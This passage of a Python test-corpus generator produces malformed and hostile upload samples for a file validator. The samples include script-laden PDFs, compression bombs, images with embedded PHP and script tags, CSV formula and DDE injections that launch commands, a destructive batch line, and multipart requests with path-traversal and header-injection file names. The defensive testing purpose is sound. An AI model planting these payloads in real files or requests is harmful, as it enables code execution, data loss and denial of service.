        yield Sample(f"PDF {what}", f"{what.replace(' ', '-')}.pdf", pdf({4: b"<<>>"}, catalog=catalog))
    for what, subtype in (
        ("file", b"FileAttachment"), ("film", b"RichMedia"), ("film of before", b"Movie"), ("sound", b"Sound"),
        ("screen", b"Screen"), ("space", b"3D"),
    ):  # fmt: skip
        body = b"<</Type/Annot/Subtype/" + subtype + b"/Rect[0 0 9 9]>>"
        yield Sample(f"PDF note of a {what}", f"note-{subtype.decode()}.pdf", pdf({4: body}, page=b"/Annots[4 0 R]"))
    yield Sample("PDF with a password", "secret.pdf", pdf({4: b"<</Filter/Standard/V 2/R 3>>"},
        trailer=b"/Encrypt 4 0 R"))
    yield Sample("PDF action elsewhere", "far.pdf", pdf({4: b"<</S/URI/URI(http://e/)>>"},
        catalog=b"/OpenAction 4 0 R"))
    yield Sample("PDF name elsewhere", "name.pdf", pdf({4: b"/JavaScript"}, catalog=b"/OpenAction<</S 4 0 R/JS(x)>>"))
    yield Sample("PDF script nobody points to", "orphan.pdf", pdf({9: script}))
    hidden, first = packed_objects({5: script})
    about = b"/Type/ObjStm/N 1/First %d" % first
    flate = zlib.compress(hidden)
    for what, described, data in (
        ("packed", about + b"/Filter/FlateDecode", flate), ("not packed", about, hidden),
        ("packed twice", about + b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(flate)),
        ("hexadecimal", about + b"/Filter[/ASCIIHexDecode/FlateDecode]", flate.hex().encode() + b">"),
        ("base 85", about + b"/Filter[/ASCII85Decode/FlateDecode]", base64.a85encode(flate) + b"~>"),
        ("predicted", about + b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 5>>", flate),
        ("described elsewhere", about + b"/Filter/FlateDecode/DecodeParms 4 0 R", flate),
        ("disguised", about.replace(b"ObjStm", b"Obj#53tm") + b"/Filter/FlateDecode", flate),
        ("without its type", about.replace(b"/Type/ObjStm", b"") + b"/Filter/FlateDecode", flate),
        ("without its type, base 85", about.replace(b"/Type/ObjStm", b"") + b"/Filter[/A85/Fl]",
        base64.a85encode(flate)),
        ("of another packing", about + b"/Filter/LZWDecode", b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01"),
        ("with a wrong checksum", about + b"/Filter/FlateDecode", flate[:-4] + b"abcd"),
    ):  # fmt: skip
        within = pdf(streams=((6, described, data),))
        yield Sample(f"PDF objects {what}", f"objects-{len(described)}-{len(data)}.pdf", within)
    vast = zlib.compress(b"1 0 " + b" " * (80 * MB), 9)
    yield Sample("PDF bomb", "bomb.pdf", pdf(streams=((6, about + b"/Filter/FlateDecode", vast),)))
    plain = pdf()
    update = b"\n8 0 obj\n" + script + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % plain.rfind(b"xref\n0 1")
    yield Sample("PDF with an update", "update.pdf", plain + update)
    yield Sample("PDF after a newline", "newline.pdf", b"\n" + plain)
    yield Sample("PDF of no version", "version.pdf", plain.replace(b"%PDF-1.5", b"%PDF-x.y"))
    yield Sample("PDF without pages", "pages.pdf", plain.replace(b"/Type/Pages",
        b"/Type/Plates").replace(b"/Type/Page/", b"/T/P/"))
    yield Sample("PDF without a root", "root.pdf", plain.replace(b"/Root 1 0 R", b"/Toor 1 0 R"))
    yield Sample("PDF with its table elsewhere", "table.pdf", plain.replace(b"startxref\n", b"startxref\n9"))
    yield Sample("PDF of its header alone", "header.pdf", b"%PDF-1.7\n%%EOF\n")
    yield Sample("PDF with its end twice", "twice.pdf", plain + b"something else\n%%EOF\nand more")
    many = b"".join(b"%d 0 obj\n<</A %d 0 R>>\nstream\nx\nendstream\nendobj\n" % (n, n + 1) for n in range(9,
        310_000))
    yield Sample("PDF of very many streams", "many.pdf", plain[:-6] + many + plain[-6:])
    nested = b"[" * 400_000
    yield Sample("PDF with deep brackets", "deep.pdf", pdf({4: nested}, catalog=b"/OpenAction 4 0 R/X/Launch"))


def _pictures() -> Iterator[Sample]:
    for width, height in ((100_000, 100_000), (30_000, 1), (1, 30_000), (0, 4), (4, 0), (9_000, 9_000),
        (2**31 - 1, 2)):
        nothing = png(width, height, data=zlib.compress(b""))
        yield Sample(f"PNG of {width} by {height}", f"{width}x{height}.png", nothing)
    yield Sample("PNG that unpacks to more", "bomb.png", png(data=zlib.compress(bytes(100 * MB), 9)), codes=("bomb",))
    yield Sample("PNG that unpacks to less", "less.png", png(data=zlib.compress(b"\0" * 3)))
    yield Sample("PNG of no packing", "raw.png", png(data=b"\0" * 20))
    yield Sample("PNG with more after its pixels", "after.png", png(data=zlib.compress(b"\0" * 20) + PROGRAM))
    yield Sample("PNG without an end", "noend.png", png(end=False))
    yield Sample("PNG with more after its end", "tail.png", png(tail=b"tail"))
    yield Sample("PNG with a wrong checksum", "crc.png", png(extra=(chunk(b"tEXt", b"a\0b", crc=1),)))
    yield Sample("PNG with a chunk nobody knows", "chunk.png", png(extra=(chunk(b"EVIL", b"x"),)))
    yield Sample("PNG with two headers", "heads.png", png(extra=(chunk(b"IHDR", bytes(13)),)))
    yield Sample("PNG with a script", "script.png", png(extra=(chunk(b"tEXt", b"a\0<script>alert(1)</script>"),)))
    yield Sample("PNG with PHP", "php.png", png(extra=(chunk(b"tEXt", b"a\0<?php system('id') ?>"),)))
    packed = zlib.compress(b"<script>alert(1)</script>")
    yield Sample("PNG with a packed script", "zscript.png", png(extra=(chunk(b"zTXt", b"a\0\0" + packed),)))
    yield Sample("PNG with a packed script more", "iscript.png", png(extra=(chunk(b"iTXt",
        b"a\0\1\0\0\0" + packed),)))
    much = zlib.compress(bytes(30 * MB), 9)
    yield Sample("PNG with a bomb of words", "words.png", png(extra=(chunk(b"zTXt", b"a\0\0" + much),)),
        codes=("bomb",))
    yield Sample("PNG with a bomb of a profile", "profile.png", png(extra=(chunk(b"iCCP", b"a\0\0" + much),)),
        codes=("bomb",))
    yield Sample("PNG of a bad depth", "depth.png", png().replace(b"\0\0\0\4\0\0\0\4\x08\0",
        b"\0\0\0\4\0\0\0\4\x07\0"))
    frame = JPEG.find(b"\xff\xc0") if b"\xff\xc0" in JPEG else JPEG.find(b"\xff\xc2")
    huge = bytearray(JPEG)
    struct.pack_into(">HH", huge, frame + 5, 60_000, 60_000)
    yield Sample("JPEG of 60000 by 60000", "huge.jpg", bytes(huge), codes=("dimensions",))
    flat = bytearray(JPEG)
    struct.pack_into(">HH", flat, frame + 5, 0, 1)
    yield Sample("JPEG without height", "flat.jpg", bytes(flat))
    yield Sample("JPEG with a script", "script.jpg", jpeg(extra=segment(0xFE, b"<script>alert(1)</script>")))
    yield Sample("JPEG with PHP", "php.jpg", jpeg(extra=segment(0xE1, b"Exif\0\0<?php system('id') ?>")))
    yield Sample("JPEG with more after it", "tail.jpg", jpeg(tail=b"tail"))
    yield Sample("JPEG of many pictures", "many.jpg", JPEG * 40)
    yield Sample("JPEG of its ends alone", "ends.jpg", b"\xff\xd8\xff\xd9")
    yield Sample("JPEG with a length that lies", "length.jpg", JPEG[:2] + b"\xff\xfe\xff\xff" + JPEG[2:])
    yield Sample("JPEG without a frame", "frame.jpg", JPEG.replace(b"\xff\xc0", b"\xff\xe9"))


def _texts() -> Iterator[Sample]:
    for what, content in (
        ("NUL", b"a\0b"), ("bell", b"a\x07b"), ("escape", b"\x1b]0;title\x07"), ("backspace", b"a\x08b"),
        ("delete", b"a\x7f"),
        ("page", HTML), ("page later", b"Minutes\n" * 200 + b"<script>alert(1)</script>"), ("drawing", SVG),
        ("frame", b"see <iframe src=//evil>"), ("declaration", b"<?xml version='1.0'?><a/>"), ("PHP",
        b"<?php echo 1;"),
        ("shell", b"#!/usr/bin/env bash\nid\n"), ("batch", b"@echo off\r\ndel c:\\*\r\n"), ("mail",
        b"From: a@b.example\nSubject: x\n\nHello"),
        ("EICAR", EICAR), ("RTF", b"{\\rtf1\\ansi hello}"), ("direction", "safe\u202eexe.txt".encode()),
        ("isolates", "a\u2066b".encode()),
        ("no characters", b"\x81\x8d\x8f\x90"), ("UTF-16 cut", b"\xff\xfea"), ("UTF-16 with NUL",
        "a\0b".encode("utf-16")),
        ("UTF-16 without a mark", "Minutes of the board".encode("utf-16-le")), ("UTF-32", "Minutes".encode("utf-32")),
        ("UTF-16 page", HTML.decode().encode("utf-16")), ("strict script",
        b"'use strict';\nrequire('child_process')\n"),
        ("form", b"hello <form action=//evil>"), ("image", b"<img src=x onerror=alert(1)>"), ("PDF", pdf()),
        ("PDF later", b"Minutes\n" + pdf()), ("style", b"<style>@import '//evil'</style>"), ("ASP",
        b"<% eval request %>"),
    ):  # fmt: skip
        for ending in ("txt", "csv"):
            yield Sample(f"text with {what} as {ending}", f"{what.replace(' ', '-')}.{ending}", content)
    for number, cell in enumerate((
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil\",\"x\")", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "+SUM(A1)", "-HYPERLINK(1)", " =1+1", "\t=1+1", "\"=1+1\"", "'=cmd(1)", "=1", "=DDE(\"a\";\"b\";\"c\")",
    )):  # fmt: skip
        quoted = cell if cell.startswith('"') else '"' + cell.replace('"', '""') + '"'
        yield Sample(f"formula {cell[:20]}", f"formula-{number}.csv", f"name,value\nnorth,{quoted}\n".encode())
        yield Sample(f"bare formula {cell[:20]}", f"bare-{number}.csv", f"name;value\nnorth;{cell}\n".encode())
    yield Sample("field without an end", "long.csv", b'name\n"' + b"a" * 400_000)
    yield Sample("field of a bare return", "return.csv", b"name\nx\r=cmd|' /C calc'!A0\n")


def _large() -> Iterator[Sample]:
    over = 20 * MB + 1
    for ending in ("txt", "pdf", "docx", "png"):
        yield Sample(f"too large {ending}", f"large.{ending}", good()[ending].ljust(over, b"a"), codes=("too_large",))
    yield Sample("large and broken", "large-broken.pdf", pdf()[:400] + b"\0" * (19 * MB))
    yield Sample("large of one stream keyword", "keywords.pdf", pdf()[:-6] + b"stream\n" * (2 * MB) + b"%%EOF\n")
    yield Sample("large of names", "names.pdf", pdf()[:-6] + b"/a#41" * (3 * MB) + b"\n%%EOF\n")
    yield Sample("large of object numbers", "numbers.pdf",
        pdf(catalog=b"/OpenAction 9 0 R")[:-6] + b"1 0 obj " * (2 * MB) + b"%%EOF\n")
    yield Sample("large of digits", "digits.pdf", pdf()[:-6] + b"1" * (18 * MB) + b"\n%%EOF\n")
    yield Sample("large of percent signs", "signs.pdf", pdf()[:-6] + b"/S%\n" * (4 * MB) + b"/x\n%%EOF\n")
    yield Sample("large of brackets", "brackets.csv", b"-a" * (9 * MB) + b"(")
    yield Sample("large of commas", "commas.csv", b"," * (18 * MB) + b"=1")
    yield Sample("large of less-than signs", "less.txt", b"< " * (9 * MB) + b"<script")
    yield Sample("large of headers", "headers.txt", b"from: a\n" + b"x: y\n" * (3 * MB) + b"\x07")
    yield Sample("large of markers", "markers.jpg", JPEG[:-2] + b"\xff\xd0" * (9 * MB))
    yield Sample("large of small chunks", "chunks.png", png(extra=(chunk(b"tIME", b""),) * 1_400_000, end=False))


def samples() -> Iterator[Sample]:
    """The whole corpus, the good files of every kind first. Names and contents together are all different."""
    for ending, content in good().items():
        yield Sample(f"good {ending}", f"good.{ending}", content, keep=True)
    for group in (
        _endings, _in_disguise, _broken, _more_in_one, _names, _office, _archives, _opendocument, _pdfs,
        _pictures, _texts,
    ):  # fmt: skip
        yield from _made(group)
    yield from _large()  # not kept: all of them together are 300 MB


@cache
def _made(group: Callable[[], Iterator[Sample]]) -> tuple[Sample, ...]:
    """The samples of a group: packing what unpacks to very much takes seconds, and several tests ask."""
    return tuple(group())


# --- Requests that no browser sends ----------------------------------------------------------------------


@dataclass(frozen=True)
class Oddity:
    """A whole request body. `keep`: it holds one good file, which may be kept."""

    what: str
    content_type: str
    body: bytes
    keep: bool = False


def requests() -> Iterator[Oddity]:
    """Forms that are broken or sly: no name, two files, fields twice, names in other encodings, no end."""
    mark = "candour"
    kind = f"multipart/form-data; boundary={mark}"
    described = b'--candour\r\nContent-Disposition: form-data; name="description"\r\n\r\nOdd.\r\n'
    end = b"--candour--\r\n"

    def part(disposition: str, content: bytes, content_type: str = "text/plain") -> bytes:
        head = f"--{mark}\r\nContent-Disposition: form-data; {disposition}\r\nContent-Type: {content_type}\r\n\r\n"
        return head.encode("utf-8", "surrogateescape") + content + b"\r\n"

    text = b"Sent oddly: %d\n"
    file = 'name="file"; filename="odd.txt"'
    odd = [
        ("no file name", part('name="file"', text % 1), False),
        ("an empty file name", part('name="file"; filename=""', text % 2), False),
        ("two files", part(file, text % 3) + part(file, text % 4), False),
        ("two fields of files", part(file, text % 5) + part('name="other"; filename="b.txt"', text % 6), False),
        ("a hundred files", part(file, text % 7) * 100, False),
        ("a file under another name", part('name="upload"; filename="odd.txt"', text % 8), True),
        ("a name in the long form", part("name=\"file\"; filename*=UTF-8''odd%20n%C3%A4me.txt", text % 9), True),
        ("both forms of a name", part("name=\"file\"; filename=\"a.txt\"; filename*=UTF-8''evil.exe", text % 10),
        False),
        ("a long form of another encoding", part("name=\"file\"; filename*=iso-8859-1''odd%E4.txt", text % 11), True),
        ("a long form that is no encoding", part("name=\"file\"; filename*=x-none''odd%FF.txt", text % 12), True),
        ("a path in the long form", part("name=\"file\"; filename*=UTF-8''..%2F..%2Fetc%2Fodd.txt", text % 13), True),
        ("NUL in the long form", part("name=\"file\"; filename*=UTF-8''odd.txt%00.exe", text % 14), False),
        ("a line in the long form", part("name=\"file\"; filename*=UTF-8''odd%0D%0Aset-cookie:a.txt", text % 15),
        True),
        ("bytes that are no characters", part('name="file"; filename="odd\udcff.txt"', text % 16), True),
        ("a name without quotes", part("name=file; filename=odd.txt", text % 17), True),
        ("a page by its declared type", part(file, text % 18, "text/html"), True),
        ("a page said to be text", part('name="file"; filename="odd.html"', HTML), False),
        ("a picture said to be a page", part('name="file"; filename="odd.png"', HTML, "image/png"), False),
        ("a form within", part(file, text % 19, "multipart/mixed; boundary=inner"), True),
        ("a field of a hundred kilobytes", part('name="title"', b"a" * 100_000) + part(file, text % 20), False),
        ("NUL in a field", part('name="title"', b"a\0b") + part(file, text % 21), False),
        ("questions that there are not", part('name="questions"', b"no-such") + part(file, text % 22), False),
        ("a question twice", part('name="questions"', b"x") * 2 + part(file, text % 23), False),
        ("a file where words belong", part('name="description"; filename="d.txt"', text % 24) + part(file,
        text % 25), False),
        ("two thousand fields", part('name="x"', b"y") * 2000 + part(file, text % 26), True),
        ("five thousand fields", part('name="x"', b"y") * 5000 + part(file, text % 27), False),
    ]  # fmt: skip
    for what, body, keep in odd:
        yield Oddity(what, kind, described + body + end, keep)
    whole = described + part(file, text % 28) + end
    yield Oddity("no end", kind, whole[: -len(end)])
    yield Oddity("half a body", kind, whole[: len(whole) // 2])
    yield Oddity("another boundary", kind.replace(mark, "other"), whole)
    yield Oddity("no boundary", "multipart/form-data", whole)
    yield Oddity("an empty boundary", "multipart/form-data; boundary=", whole)
    yield Oddity("a boundary of a kilobyte", f"multipart/form-data; boundary={'b' * 1000}", whole)
    yield Oddity("a form of the other kind", "application/x-www-form-urlencoded", b"file=odd.txt&description=Odd")
    yield Oddity("JSON", "application/json", b'{"file": "odd.txt"}')
    yield Oddity("nothing", kind, b"")
    yield Oddity("headers without an end", kind, b"--candour\r\n" + b"X: y\r\n" * 50_000)
    yield Oddity("one header of a megabyte", kind, b"--candour\r\nX: " + b"y" * MB + b"\r\n\r\n" + whole)
    yield Oddity("line ends of one sort", kind, whole.replace(b"\r\n", b"\n"), True)
    yield Oddity("more than may be sent", kind, described + part(file, b"a" * (22 * MB)) + end)
